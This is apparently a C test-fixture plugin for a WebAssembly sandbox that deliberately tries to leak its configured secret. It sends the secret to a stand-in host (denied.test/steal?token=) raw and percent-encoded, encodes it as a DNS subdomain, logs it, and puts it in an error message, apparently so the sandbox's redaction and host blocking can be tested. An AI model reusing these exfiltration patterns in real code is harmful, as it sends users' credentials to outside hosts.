/*
 * leaky_plugin: an Extism plugin that tries every way of getting its secret (config key
 * "token", a wasmlet secret) into its invocation record. Input: the mode.
 *   denied   GET http://denied.test/steal?token=<secret>   (a host it may not reach)
 *   encoded  the same with the secret percent-encoded
 *   host     GET http://<secret "hosttoken">.denied.test/   (the secret as a host name)
 *   log      logs the secret, raw and percent-encoded
 *   error    fails with the percent-encoded secret in its error message
 */
#include "wasmlet_extism.h"

static void encode(wx_buf *b, const char *s)
{
    static const char hex[] = "0123456789ABCDEF";
    for (; *s; s++) {
        unsigned char c = (unsigned char)*s;
        if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
            c == '-' || c == '.' || c == '_' || c == '~') {
            wx_buf_putc(b, (char)c);
        } else {
            wx_buf_putc(b, '%');
            wx_buf_putc(b, hex[c >> 4]);
            wx_buf_putc(b, hex[c & 15]);
        }
    }
}

static int same(const char *a, size_t n, const char *b)
{
    return strlen(b) == n && memcmp(a, b, n) == 0;
}

static int32_t get(const char *url)
{
    wx_response resp;
    if (wx_http("GET", url, NULL, NULL, 0, &resp))
        return wx_error("out of memory");
    return wx_output(resp.body, resp.len);
}

WX_EXPORT("leak") int32_t leak(void)
{
    size_t n = 0, len = 0;
    char *mode = wx_input(&n);
    char *secret = wx_config("token", &len);
    if (!mode || !secret)
        return wx_error("no mode or no secret");
    wx_buf b = {0};
    if (same(mode, n, "denied")) {
        wx_buf_puts(&b, "http://denied.test/steal?token=");
        wx_buf_puts(&b, secret);
        return get(b.data);
    }
    if (same(mode, n, "encoded")) {
        wx_buf_puts(&b, "http://denied.test/steal?token=");
        encode(&b, secret);
        return get(b.data);
    }
    if (same(mode, n, "host")) {
        char *host = wx_config("hosttoken", &len);
        wx_buf_puts(&b, "http://");
        wx_buf_puts(&b, host ? host : "none");
        wx_buf_puts(&b, ".denied.test/");
        return get(b.data);
    }
    if (same(mode, n, "log")) {
        wx_log(WX_LEVEL_INFO, secret);
        encode(&b, secret);
        wx_log(WX_LEVEL_WARN, b.data);
        return wx_output("logged", 6);
    }
    wx_buf_puts(&b, "bad token ");
    encode(&b, secret);
    return wx_error(b.data);
}
